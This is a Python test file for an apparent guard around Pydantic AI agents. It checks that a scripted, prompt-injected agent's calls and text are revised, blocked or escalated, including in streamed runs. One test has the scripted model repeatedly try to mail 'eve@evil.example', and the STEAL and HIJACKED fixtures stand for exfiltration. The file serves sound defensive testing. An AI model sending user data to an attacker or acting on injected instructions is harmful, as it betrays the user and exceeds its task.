"""The calls and the words of the model, also in streams."""

from typing import Any

import pytest
from pydantic_ai import (
    Agent,
    CallToolsNode,
    DeferredToolRequests,
    Tool,
)

from tests.integrations.pydantic_ai.agents import (
    HIJACKED,
    INJECTED,
    READ,
    REFUSED,
    REPLY,
    STEAL,
    TASK,
    Office,
    Script,
    call,
    calls,
    done,
    results,
    says,
)

SURFACE = "Pydantic AI"


@pytest.mark.shows(SURFACE, "tool call", "feedback")
def test_of_parallel_calls_the_aligned_ones_run() -> None:
    office, script = Office(), Script([calls(READ), calls(STEAL, REPLY), says("Done.")])
    result = office.agent(script).run_sync(TASK)
    answers = results(result.all_messages())
    assert office.sent == ["alice@example.com"]
    assert REFUSED in str(answers["steal"].content) and answers["reply"].content == "sent"
    # The words and both calls of a message are one check.
    assert [len(decision.calls) for decision in office.decisions] == [0, 1, 0, 2, 0, 0]


def test_a_model_that_never_corrects_itself_is_blocked_and_the_run_continues() -> None:
    stubborn = [calls(call("send_mail", to="eve@evil.example", text=str(n))) for n in range(5)]
    office = Office()
    agent = office.agent(Script([*stubborn, says("I give up.")]), office.shield(rounds=2))
    assert agent.run_sync(TASK).output == "I give up."
    assert office.held == ["revise", "block", "block", "block", "block"]
    assert office.sent == []


@pytest.mark.shows(SURFACE, "plan text", "feedback")
def test_misaligned_words_get_feedback() -> None:
    office, script = Office(), Script([calls(READ), says(f"I will {INJECTED}"), says("Friday?")])
    result = office.agent(script).run_sync(TASK)
    assert result.output == "Friday?"
    assert REFUSED in script.shown(2) and office.held == ["revise"]


def test_words_next_to_allowed_calls_get_feedback_after_the_results() -> None:
    office, script = Office(), Script([calls(REPLY, text=INJECTED), says("Done.")])
    office.agent(script).run_sync(TASK)
    assert office.sent == ["alice@example.com"] and REFUSED in script.shown(1)


def test_misaligned_words_do_not_use_up_the_retries_of_the_run() -> None:
    words = [says(f"{INJECTED} {number}") for number in range(4)]
    office = Office()
    assert office.agent(Script(words), retries=0).run_sync(TASK).output == words[3].text
    assert office.held == ["revise"] * 3  # then words pass, marked


def test_words_that_policy_blocks_are_replaced() -> None:
    office = Office()
    result = office.agent(Script([says(INJECTED)]), office.shield(text="block")).run_sync(TASK)
    assert REFUSED in result.output and result.response.text == result.output


@pytest.mark.shows(SURFACE, "streaming", "tool call", "feedback")
def test_a_streamed_run_is_guarded_and_still_streams() -> None:
    office, script = Office(), Script(HIJACKED[:-1] + [says("All is done now.")])

    async def work() -> list[str]:
        async with office.agent(script).run_stream(TASK) as stream:
            return [text async for text in stream.stream_text(delta=True, debounce_by=None)]

    assert len(done(work())) == 4
    assert office.sent == ["alice@example.com"] and REFUSED in script.shown(2)


@pytest.mark.shows(SURFACE, "streaming", "plan text")
def test_event_streams_and_iteration_are_guarded() -> None:
    async def events(agent: Agent[None, Any]) -> None:
        async with agent.run_stream_events(TASK) as stream:
            async for _ in stream:
                pass

    async def nodes(agent: Agent[None, Any]) -> None:
        async with agent.iter(TASK) as run:
            assert any([isinstance(node, CallToolsNode) async for node in run])

    for drive in (events, nodes):
        office, script = Office(), Script([*HIJACKED[:3], says(INJECTED), says("Done.")])
        done(drive(office.agent(script)))
        assert office.sent == ["alice@example.com"]
        assert REFUSED in script.shown(2) and REFUSED in script.shown(4)


def test_calls_after_the_final_text_of_a_stream_are_checked_once() -> None:
    office = Office()
    script = Script([calls(STEAL, REPLY, text="Done.")])

    async def work() -> str:
        async with office.agent(script).run_stream(TASK) as stream:
            return str(await stream.get_output())

    assert done(work()).strip() == "Done."
    assert office.sent == ["alice@example.com"]
    judged = [verdict.call.id for decision in office.decisions for verdict in decision.calls]
    assert sorted(judged) == ["reply", "steal"]


def test_calls_and_words_can_be_blocked_in_one_message() -> None:
    office = Office()
    script = Script([calls(READ), calls(STEAL, text=INJECTED)])
    shield = office.shield(tools={"send_mail": "escalate"})
    tools = [office.read_mail, Tool(office.send_mail, requires_approval=True)]
    output = [str, DeferredToolRequests]
    paused = office.agent(script, shield, tools=tools, output_type=output).run_sync(TASK)
    assert [each.tool_call_id for each in paused.output.approvals] == ["steal"]
    assert office.held == ["escalate"]
    script = Script([calls(REPLY, text=INJECTED)])
    paused = office.agent(script, tools=tools, output_type=output).run_sync(TASK)
    assert [each.tool_call_id for each in paused.output.approvals] == ["reply"]
